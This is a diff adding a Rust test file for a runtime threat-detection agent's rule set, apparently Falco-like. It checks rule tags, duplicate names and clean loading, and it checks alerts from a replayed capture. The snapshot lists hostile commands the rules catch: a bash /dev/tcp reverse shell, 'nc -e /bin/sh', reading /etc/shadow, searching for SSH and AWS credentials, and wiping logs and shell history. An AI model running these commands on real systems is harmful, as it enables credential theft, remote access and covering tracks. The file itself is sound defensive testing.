@@ -1,0 +1,201 @@
+//! The rules under `rules/`: they are well formed, load without a warning, and find what the bundled capture holds.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use serde_yaml::Value;
+
+use crate::{saker, text};
+
+fn root() -> &'static Path {
+    Path::new(env!("CARGO_MANIFEST_DIR")).parent().expect("the agent lies in the repository")
+}
+
+/// Folder and file of each shipped rule file, in the order of their names.
+fn rule_files() -> Vec<(String, PathBuf)> {
+    let mut files = Vec::new();
+    for tactic in fs::read_dir(root().join("rules")).expect("rules/ is there").flatten() {
+        let name = tactic.file_name().into_string().expect("a plain name");
+        for file in fs::read_dir(tactic.path()).expect("a folder for each tactic").flatten() {
+            files.push((name.clone(), file.path()));
+        }
+    }
+    files.sort();
+    files
+}
+
+/// The items of a rule file that have this key, with its value.
+fn items<'y>(document: &'y Value, kind: &str) -> Vec<(&'y str, &'y Value)> {
+    let items = document.as_sequence().expect("a rule file is a sequence");
+    items.iter().filter_map(|item| Some((item.get(kind)?.as_str()?, item))).collect()
+}
+
+fn is_technique(tag: &str) -> bool {
+    let digits = |text: &str, count| text.len() == count && text.bytes().all(|byte| byte.is_ascii_digit());
+    let Some(number) = tag.strip_prefix('T') else { return false };
+    match number.split_once('.') {
+        None => digits(number, 4),
+        Some((technique, sub)) => digits(technique, 4) && digits(sub, 3),
+    }
+}
+
+#[test]
+fn each_rule_says_where_it_belongs() {
+    let mut faults = Vec::new();
+    for (folder, path) in rule_files() {
+        let document = serde_yaml::from_str(&fs::read_to_string(&path).expect("a text file")).expect("YAML");
+        let rules = items(&document, "rule");
+        if rules.is_empty() {
+            faults.push(format!("{}: no rule", path.display()));
+        }
+        for (name, rule) in rules {
+            let tags = rule.get("tags").and_then(Value::as_sequence).into_iter().flatten();
+            let tags: Vec<&str> = tags.filter_map(Value::as_str).collect();
+            let tactic = format!("mitre_{}", folder.replace('-', "_"));
+            let maturity = ["maturity_stable", "maturity_incubating", "maturity_sandbox"];
+            let needs = [
+                ("its folder's tactic", tags.contains(&tactic.as_str())),
+                ("one maturity", tags.iter().filter(|tag| maturity.contains(tag)).count() == 1),
+                ("an ATT&CK technique", tags.iter().any(|tag| is_technique(tag))),
+                ("host or container", tags.contains(&"host") || tags.contains(&"container")),
+            ];
+            let missing = needs.iter().filter(|(_, met)| !met);
+            faults.extend(missing.map(|(what, _)| format!("{name}: a tag for {what} is missing")));
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+}
+
+/// A second definition would silently change the rules of the file before.
+#[test]
+fn no_name_is_defined_twice() {
+    let mut seen = BTreeSet::new();
+    for (_, path) in rule_files() {
+        let document = serde_yaml::from_str(&fs::read_to_string(&path).expect("a text file")).expect("YAML");
+        for kind in ["rule", "macro", "list"] {
+            for (name, _) in items(&document, kind) {
+                assert!(seen.insert((kind, name.to_owned())), "{kind} {name} again in {}", path.display());
+            }
+        }
+    }
+}
+
+#[test]
+fn they_load_without_a_warning() {
+    for (_, path) in rule_files() {
+        let path = path.to_str().expect("a plain path");
+        let out = saker(&["check", path]);
+        let report = text(&out.stdout);
+        assert_eq!(out.status.code(), Some(0), "{report}{}", text(&out.stderr));
+        assert!(report.trim_end().ends_with(": Ok"), "{report}");
+    }
+}
+
+#[test]
+fn they_find_the_attack_in_the_bundled_capture() {
+    let files = rule_files();
+    let capture = root().join("tests/data/vm_small.scap.gz");
+    let mut args = vec!["replay", "-o", "json_output=true"];
+    for (_, path) in &files {
+        args.extend(["-r", path.to_str().expect("a plain path")]);
+    }
+    args.push(capture.to_str().expect("a plain path"));
+    let out = saker(&args);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+
+    let mut alerts: BTreeMap<String, Vec<String>> = BTreeMap::new();
+    for line in text(&out.stdout).lines() {
+        let alert: serde_json::Value = serde_json::from_str(line).expect("an alert is a JSON object");
+        let field = |name: &str| alert[name].as_str().unwrap_or_default().to_owned();
+        let command = alert["output_fields"]["proc.cmdline"].as_str().unwrap_or_default();
+        alerts
+            .entry(format!("{} ({})", field("rule"), field("priority")))
+            .or_default()
+            .push(command.to_owned());
+    }
+    let mut listing = String::new();
+    for (rule, mut commands) in alerts {
+        listing.push_str(&format!("{rule}\n"));
+        commands.dedup();
+        commands.iter().for_each(|command| listing.push_str(&format!("  {command}\n")));
+    }
+    insta::assert_snapshot!(listing, @"
+    Account created or changed (Notice)
+      useradd evil2
+      usermod -aG sudo evil2
+      userdel evil2
+    Another process taken over with ptrace (Warning)
+      evil attach
+      strace -o /dev/null /bin/true
+      strace -o /dev/null true
+    Credentials searched for (Warning)
+      grep -r BEGIN RSA PRIVATE KEY /root
+      find /root -name id_rsa
+      find / -maxdepth 2 -name .aws
+      find /root -name id_dsa
+      find / -maxdepth 1 -name id_rsa
+    Environment of another process read (Warning)
+      cat /proc/1/environ
+    Job or service planted (Warning)
+      bash /mnt/w_small.sh
+    Kernel helper path changed (Critical)
+      bash /mnt/w_small.sh
+    Link made to password hashes (Warning)
+      ln -s /etc/shadow /tmp/sh
+      ln -s /etc /tmp/etcl
+      ln -s /etc/shadow /tmp/csh
+    Log emptied or removed (Warning)
+      bash /mnt/w_small.sh
+      shred -u /var/log/auth.log
+    Netcat hands a connection to a program (Warning)
+      nc -e /bin/sh 127.0.0.1 1
+    Packet socket opened (Notice)
+      evil packet
+      tcpdump -c 1 -i lo
+      evil packet
+      tcpdump -c 1 -i nosuch
+    Page faults handled by an unprivileged program (Warning)
+      evil ufd
+    Password hashes read (Warning)
+      cat /etc/shadow
+      cat /etc/../etc/../etc/shadow
+      cat /etc/shadow
+    Preloaded library set (Critical)
+      touch /etc/ld.so.preload
+    Program directory changed (Error)
+      bash /mnt/w_small.sh
+      mv /usr/bin/evil_bin /usr/bin/evil_bin2
+      rm -f /usr/bin/evil_bin2
+      mkdir /usr/bin/evildir
+      rmdir /usr/bin/evildir
+      mkdir /usr/bin/cd1
+      rmdir /usr/bin/cd1
+    Program run from memory (Critical)
+      memfd:payload
+    Program run from shared memory (Warning)
+      i
+      ci
+    Reverse shell (Critical)
+      evil rev 4445
+      bash -c bash -i >& /dev/tcp/127.0.0.1/4446 0>&1
+      evil rev 4447
+    SSH login keys changed (Warning)
+      bash /mnt/w_small.sh
+    SSH private key read (Error)
+      cat /root/.ssh/id_rsa
+      grep -r BEGIN RSA PRIVATE KEY /root
+    Setuid or setgid bit set (Notice)
+      chmod u+s /tmp/x
+      chmod 4755 /tmp/x
+    Shell history removed (Warning)
+      rm -f /root/.bash_history
+    Shell startup file changed (Warning)
+      bash /mnt/w_small.sh
+    Sudo rights changed (Critical)
+      bash /mnt/w_small.sh
+    System configuration changed (Notice)
+      sed -i s/x/x/ /etc/hosts
+      bash /mnt/w_small.sh
+    ");
+}
